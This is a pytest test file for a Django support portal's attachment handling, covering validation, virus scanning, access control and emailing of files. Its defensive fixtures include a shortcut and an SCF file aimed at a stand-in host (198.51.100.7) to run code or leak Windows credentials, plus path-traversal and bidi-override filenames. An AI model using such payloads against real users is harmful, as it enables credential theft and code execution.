"""Files customers attach on the portal and staff attach to replies: the rules, and the attacks."""

import re

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from tests.factories import TicketFactory
from tests.tickets.fake_clamd import EICAR, FakeClamd
from tests.tickets.test_attachments import HTML, PDF, PNG
from tests.tickets.verification_helpers import deliver_outbox, html_part
from tickets import services
from tickets.models import ActionLog, Attachment, Message, Notification, Ticket
from tickets.services import NotificationRetry
from tickets.services.attachments import (
    ATTACHMENT_MAX_BYTES,
    ATTACHMENTS_ONLY_BODY,
    AttachmentUpload,
    attachment_scan,
    attachments_validate,
)

pytestmark = pytest.mark.django_db

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40
TEXT = b"Error 502 at 10:42, see below.\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120  # a Windows program
MODIFY_URL = "/requests/modify/"
GENERAL_URL = "/requests/new/"


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def scan_all() -> list[str]:
    """Do what the worker does for every attachment still to scan."""
    pending = Attachment.objects.filter(scan_status="pending").order_by("pk")
    return [attachment_scan(attachment_id=pk) for pk in pending.values_list("pk", flat=True)]


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def general(client: Client, files, **extra):
    data = {"subject": "Site down", "message": "It shows an error.", "email": "x@example.test"}
    return client.post(GENERAL_URL, {**data, "attachments": files}, **extra)


# --- the rules, judged from the bytes ---


@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("setup.png", EXE, "is not a file we accept"),  # an .exe renamed .png
        ("invoice.pdf", PNG, "does not hold what its name says"),
        ("page.txt", HTML, "is not a file we accept"),  # HTML is never text
        ("notes.html", TEXT, "is not a file we accept"),
        ("photo.png.exe", PNG, "is not a file we accept"),
        ("script.\uff4a\uff53", TEXT, "is not a file we accept"),  # full-width "js"
        ("archive.zip", b"PK\x03\x04" + b"\x00" * 30, "is not a file we accept"),
        ("empty.txt", b"", "is empty"),
        ("big.txt", b"a" * (ATTACHMENT_MAX_BYTES + 1), "is larger than 10 MB"),
    ],
)
def test_a_file_breaking_a_rule_is_refused_by_name(name, content, error):
    with pytest.raises(ValidationError) as caught:
        attachments_validate(uploads=[AttachmentUpload(name, content)])

    assert error in caught.value.message_dict["attachments"][0]


# Plain text a desktop opens by its name as something else: a shortcut that runs a program or
# hands the reader's Windows credentials to another host, a document with embedded objects.
SHORTCUT = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/update.exe\r\n"
SHELL_COMMAND = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\icon.ico\r\n"
LIBRARY = b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
RTF = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.url", SHORTCUT),
        ("readme.scf", SHELL_COMMAND),
        ("documents.library-ms", LIBRARY),
        ("letter.rtf", RTF),
        ("page.mht", TEXT),
        ("notes.txt.website", TEXT),
        ("update.js", TEXT),
        ("run.bat", TEXT),
        ("script.ps1", TEXT),
        ("desktop.ini", SHELL_COMMAND),
        ("feed.xml", TEXT),
    ],
)
def test_text_named_as_a_shortcut_or_a_document_is_refused(name, content):
    # given text any check of the bytes passes, under a name a desktop opens as something else
    # when a customer (or staff) attaches it
    with pytest.raises(ValidationError) as caught:
        attachments_validate(uploads=[AttachmentUpload(name, content)])
    # then it is refused, saying what is accepted
    assert "is not a file we accept" in caught.value.message_dict["attachments"][0]


@pytest.mark.parametrize(
    "name",
    [
        "error.log",
        "export.csv",
        "dns.TXT",
        "README",
        "scan.v2.pdf",
        "nginx.conf",
        "backup.sql",
        "settings.json",
        "compose.yml",
        "notes.md",
    ],
)
def test_a_name_of_its_own_kind_or_none_is_accepted(name):
    content = PDF if name.endswith(".pdf") else TEXT

    [kept] = attachments_validate(uploads=[AttachmentUpload(name, content)])

    assert kept.filename == name


def test_a_shortcut_posted_on_the_portal_keeps_the_request_unsent(client):
    response = general(client, [upload("invoice.url", SHORTCUT)])

    assert response.status_code == 400
    assert "is not a file we accept" in response.content.decode()
    assert not Ticket.objects.exists() and not Attachment.objects.exists()


def test_six_files_are_one_too_many():
    with pytest.raises(ValidationError, match="at most 5 files"):
        attachments_validate(uploads=[AttachmentUpload(f"{n}.png", PNG) for n in range(6)])


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\windows\\win.ini.txt", "win.ini.txt"),
        ("/absolute/path/scan.png", "scan.png"),
        ("..png", "png"),
        ("re\u202eport\u200b.png", "report.png"),  # bidi override, zero-width space
        ("4111\u200b1111 1111-1111.png", "[card number removed].png"),  # split by a zero-width
    ],
)
def test_a_name_keeps_no_folder_and_no_invisible_characters(raw, kept):
    content = TEXT if kept.endswith(".txt") else PNG
    [cleaned] = attachments_validate(uploads=[AttachmentUpload(raw, content)])

    assert cleaned.filename == kept


# --- portal: the general request ---


def test_an_anonymous_request_keeps_its_files_typed_by_their_bytes(client):
    response = general(
        client, [upload("error.png", PNG, "text/html"), upload("log.txt", TEXT, "image/png")]
    )

    assert response.status_code == 303
    ticket = Ticket.objects.get()
    message = ticket.messages.get(author="customer")
    stored = list(message.attachments.order_by("id").values_list("filename", "content_type"))
    assert stored == [("error.png", "image/png"), ("log.txt", "text/plain")]
    assert set(message.attachments.values_list("scan_status", flat=True)) == {"pending"}
    added = ActionLog.objects.get(action="attachment.added")
    assert added.ticket == ticket
    assert [f["name"] for f in added.details["files"]] == ["error.png", "log.txt"]


@pytest.mark.parametrize(
    ("files", "error"),
    [
        ([("setup.png", EXE)], "setup.png is not a file we accept"),
        ([("ok.png", PNG), ("evil.html", HTML)], "evil.html is not a file we accept"),
        ([(f"{n}.png", PNG) for n in range(6)], "Attach at most 5 files to one message."),
        ([("big.pdf", PDF + b"0" * ATTACHMENT_MAX_BYTES)], "big.pdf is larger than 10 MB."),
    ],
)
def test_a_bad_file_refuses_the_whole_request_with_the_reason(client, files, error):
    response = general(client, [upload(name, content) for name, content in files])

    assert response.status_code == 400
    assert error in response.content.decode()
    assert not Ticket.objects.exists()
    assert not Message.objects.exists()
    assert not Attachment.objects.exists()


def test_the_service_refuses_a_bad_file_and_saves_nothing():
    with pytest.raises(ValidationError):
        services.request_general(
            subject="Help",
            body="See the files",
            contact_email="x@example.test",
            actor="anonymous",
            attachments=[AttachmentUpload("ok.png", PNG), AttachmentUpload("run.png", EXE)],
        )

    assert not Ticket.objects.exists()
    assert not ActionLog.objects.exists()


def test_a_body_past_the_upload_limit_is_a_413_before_it_is_read(client, settings):
    response = client.post(
        GENERAL_URL,
        {"subject": "x", "message": "y", "email": "x@example.test"},
        CONTENT_LENGTH=str(settings.ATTACHMENT_UPLOAD_MAX_BODY_BYTES + 1),
    )

    assert response.status_code == 413
    assert "10 MB each, 5 at most" in response.content.decode()
    assert not Ticket.objects.exists()


def test_the_413_page_says_the_limits_the_forms_check(client, settings):
    settings.ATTACHMENTS_PER_MESSAGE = 3
    settings.ATTACHMENT_MAX_BYTES = 4 * 1024 * 1024
    response = client.post(
        GENERAL_URL,
        {"subject": "x", "message": "y", "email": "x@example.test"},
        CONTENT_LENGTH=str(settings.ATTACHMENT_UPLOAD_MAX_BODY_BYTES + 1),
    )

    assert response.status_code == 413
    assert "4 MB each, 3 at most" in response.content.decode()


def test_the_upload_limit_is_only_for_the_forms_that_take_files(client):
    # a multipart body of 3 MB to a form without files is still past the usual 2.5 MB
    response = client.post(
        "/requests/password/", {"domain": "example.com", "junk": upload("x.txt", b"a" * 3_000_000)}
    )

    assert response.status_code == 413


# --- who sees the files ---


def test_a_customers_file_is_seen_by_the_customer_and_staff_only(alice, bob, agent):
    # given Alice sends a screenshot with a request
    alice_client = logged_in(alice.user)
    assert general(alice_client, [upload("screen.png", PNG)]).status_code == 303
    ticket = Ticket.objects.get()
    attachment = Attachment.objects.get()
    portal_url = f"/my/tickets/{ticket.reference}/attachments/{attachment.pk}/"
    staff_url = f"/staff/tickets/{ticket.reference}/attachments/{attachment.pk}/"

    # then nobody downloads it before the scan
    assert alice_client.get(portal_url).status_code == 404
    assert logged_in(agent).get(staff_url).status_code == 404

    # when the worker scans it
    assert scan_all() == ["clean"]

    # then Alice and staff download it, Bob and a visitor do not
    page = alice_client.get(f"/my/tickets/{ticket.reference}/").content.decode()
    assert f'href="{portal_url}"' in page
    response = alice_client.get(portal_url)
    assert response.content == PNG
    assert response["Content-Disposition"] == 'attachment; filename="screen.png"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert logged_in(agent).get(staff_url).content == PNG
    bob_client = logged_in(bob.user)
    assert bob_client.get(portal_url).status_code == 404
    assert bob_client.get(staff_url).status_code == 404
    assert bob_client.get(f"/my/tickets/{ticket.reference}/").status_code == 404
    assert Client().get(portal_url).status_code == 302


# --- portal: replies ---


def test_a_customer_replies_with_a_file_on_the_ticket_page(alice):
    ticket = TicketFactory(customer=alice, status=Ticket.Status.AWAITING_CUSTOMER)
    client = logged_in(alice.user)

    response = client.post(
        f"/my/tickets/{ticket.reference}/reply/",
        {"body": "Here is the log", "attachments": [upload("error.log", TEXT)]},
    )

    assert response.status_code == 302
    message = ticket.messages.get()
    assert list(message.attachments.values_list("filename", flat=True)) == ["error.log"]
    ticket.refresh_from_db()
    assert ticket.status == Ticket.Status.OPEN


def test_a_refused_reply_file_keeps_the_reply_unsent(alice):
    ticket = TicketFactory(customer=alice)
    client = logged_in(alice.user)

    response = client.post(
        f"/my/tickets/{ticket.reference}/reply/",
        {"body": "Here", "attachments": [upload("photo.png", EXE)]},
    )

    assert response.status_code == 400
    assert "photo.png is not a file we accept" in response.content.decode()
    assert not ticket.messages.exists()
    ticket.refresh_from_db()
    assert ticket.version == 1


def status_token(ticket) -> str:
    from tickets.services.status_link import status_link_issue

    link = status_link_issue(ticket=ticket, send_to=ticket.contact_email)
    return link.rstrip("/").rsplit("/", 1)[-1]


def test_the_status_page_takes_a_file_and_hands_it_back_to_the_links_holder_only(client):
    ticket = TicketFactory(customer=None, contact_email="anon@example.test")
    other = TicketFactory(customer=None, contact_email="other@example.test")
    token, other_token = status_token(ticket), status_token(other)

    response = client.post(
        f"/track/{token}/reply/",
        {
            "body": "A photo of the error",
            "attachments": [upload("error.jpg", JPEG)],
        },
    )

    assert response.status_code == 302
    attachment = Attachment.objects.get()
    url = f"/track/{token}/attachments/{attachment.pk}/"
    assert client.get(url).status_code == 404  # not scanned yet
    scan_all()
    page = client.get(f"/track/{token}/").content.decode()
    assert f'href="{url}"' in page
    download = client.get(url)
    assert download.content.startswith(b"\xff\xd8\xff")
    assert download["Content-Disposition"] == 'attachment; filename="error.jpg"'
    assert client.get(f"/track/{other_token}/attachments/{attachment.pk}/").status_code == 404
    assert client.get(f"/track/{'x' * 43}/attachments/{attachment.pk}/").status_code == 404


def test_the_status_page_refuses_a_bad_file(client):
    ticket = TicketFactory(customer=None, contact_email="anon@example.test")
    token = status_token(ticket)

    response = client.post(
        f"/track/{token}/reply/", {"body": "x", "attachments": [upload("a.pdf", HTML)]}
    )

    assert response.status_code == 400
    assert "a.pdf is not a file we accept" in response.content.decode()
    assert not Message.objects.exists()


# --- portal: the change request's proof ---


def test_an_owner_attaches_proof_of_a_name_change(alice):
    client = logged_in(alice.user)
    data = {
        "full_name": "Alice Tan Mei Ling",
        "email": alice.email,
        "phone": alice.phone,
        "address_line1": alice.address_line1,
        "city": alice.city,
        "postcode": alice.postcode,
        "country": alice.country,
        "note": "Married name",
    }

    response = client.post(MODIFY_URL, {**data, "attachments": [upload("certificate.pdf", PDF)]})

    assert response.status_code == 303
    ticket = Ticket.objects.get(kind="modify_info")
    message = ticket.messages.get(author="customer")
    assert message.body == "Married name"
    assert list(message.attachments.values_list("filename", "content_type")) == [
        ("certificate.pdf", "application/pdf")
    ]


def test_an_anonymous_change_request_keeps_its_proof_on_a_message_of_its_own(client, alice):
    response = client.post(
        MODIFY_URL,
        {
            "email_on_record": alice.email,
            "full_name": "Alice Wong",
            "note": "New name",
            "attachments": [upload("id.png", PNG)],
        },
    )

    assert response.status_code == 303
    ticket = Ticket.objects.get(kind="modify_info")
    message = ticket.messages.get()
    assert message.body == ATTACHMENTS_ONLY_BODY
    assert message.attachments.get().filename == "id.png"


def test_a_change_request_with_a_bad_proof_is_refused_whole(client, alice):
    response = client.post(
        MODIFY_URL,
        {"email_on_record": alice.email, "full_name": "X", "attachments": [upload("id.png", EXE)]},
    )

    assert response.status_code == 400
    assert "id.png is not a file we accept" in response.content.decode()
    assert not Ticket.objects.exists()


# --- staff replies carry their files ---


def staff_page_reply(client: Client, ticket, files, body="Please see the attached guide."):
    return client.post(
        f"/staff/tickets/{ticket.reference}/reply/",
        {"body": body, "version": ticket.version, "attachments": files},
    )


def test_a_staff_reply_mails_its_files_once_they_are_scanned(agent, alice, settings):
    settings.EMAIL_BACKEND = "anymail.backends.test.EmailBackend"
    ticket = TicketFactory(customer=alice)
    client = logged_in(agent)

    response = staff_page_reply(client, ticket, [upload("guide.pdf", PDF), upload("dns.txt", TEXT)])

    assert response.status_code == 302
    message = ticket.messages.get(author="staff")
    assert message.attachments.count() == 2
    notification = Notification.objects.get(ticket=ticket, template="ticket_reply")

    # the email waits for the scan, without using up an attempt
    with pytest.raises(NotificationRetry):
        services.notification_send(notification_id=notification.pk)
    notification.refresh_from_db()
    assert notification.status == "pending" and notification.attempts == 0
    assert not mail.outbox

    # once scanned, it goes with both files
    scan_all()
    [email] = deliver_outbox()
    assert email.to == [alice.email]
    assert [(name, data, kind) for name, data, kind in email.attachments] == [
        ("guide.pdf", PDF, "application/pdf"),
        ("dns.txt", TEXT.decode(), "text/plain"),  # Django's attach() decodes text
    ]
    assert "too large to send" not in email.body.lower()
    # and the customer downloads them from the portal too
    page = logged_in(alice.user).get(f"/my/tickets/{ticket.reference}/").content.decode()
    assert len(re.findall(r'href="/my/tickets/[^"]+/attachments/\d+/"', page)) == 2


def test_an_infected_file_stays_out_of_the_reply_email(agent, alice, settings):
    settings.EMAIL_BACKEND = "anymail.backends.test.EmailBackend"
    clamd = FakeClamd()
    settings.CLAMD_SOCKET = clamd.path
    try:
        ticket = TicketFactory(customer=alice)
        staff_page_reply(
            logged_in(agent), ticket, [upload("ok.txt", TEXT), upload("bad.txt", EICAR)]
        )
        assert sorted(scan_all()) == ["clean", "infected"]
    finally:
        clamd.close()

    [email] = deliver_outbox()

    assert [name for name, _, _ in email.attachments] == ["ok.txt"]


def test_files_past_the_email_size_are_named_with_the_status_link(agent, alice, settings):
    settings.EMAIL_BACKEND = "anymail.backends.test.EmailBackend"
    settings.EMAIL_ATTACHMENTS_MAX_BYTES = len(PDF) + 10
    ticket = TicketFactory(customer=alice)
    staff_page_reply(
        logged_in(agent), ticket, [upload("small.pdf", PDF), upload("large.txt", TEXT * 5)]
    )
    scan_all()

    [email] = deliver_outbox()

    assert [name for name, _, _ in email.attachments] == ["small.pdf"]
    assert "these files are on your request's page: large.txt" in email.body
    assert "/track/" in email.body
    assert "large.txt" in html_part(email)


def test_a_staff_reply_with_a_bad_file_is_refused_and_not_sent(agent, alice):
    ticket = TicketFactory(customer=alice)

    response = staff_page_reply(logged_in(agent), ticket, [upload("tool.png", EXE)])

    assert response.status_code == 400
    assert "tool.png is not a file we accept" in response.content.decode()
    assert not ticket.messages.exists()
    assert not Notification.objects.filter(template="ticket_reply").exists()


def test_every_form_that_takes_files_accepts_one_past_the_usual_body_limit(alice, agent):
    # a 3 MB file: past the 2.5 MB every other URL allows
    big = PDF + b"0" * 3_000_000
    ticket = TicketFactory(customer=alice, contact_email=alice.email)
    token = status_token(ticket)
    alice_client, agent_client = logged_in(alice.user), logged_in(agent)
    posts = [
        (Client(), GENERAL_URL, {"subject": "s", "message": "m", "email": "x@example.test"}),
        (Client(), MODIFY_URL, {"email_on_record": alice.email, "full_name": "Alice Wong"}),
        (alice_client, f"/my/tickets/{ticket.reference}/reply/", {"body": "mine"}),
        (Client(), f"/track/{token}/reply/", {"body": "from the status page"}),
    ]
    for client, url, data in posts:
        response = client.post(url, {**data, "attachments": [upload("big.pdf", big)]})
        assert response.status_code in (302, 303), url
    ticket.refresh_from_db()
    response = staff_page_reply(agent_client, ticket, [upload("big.pdf", big)])
    assert response.status_code == 302

    assert Attachment.objects.filter(size=len(big)).count() == 5
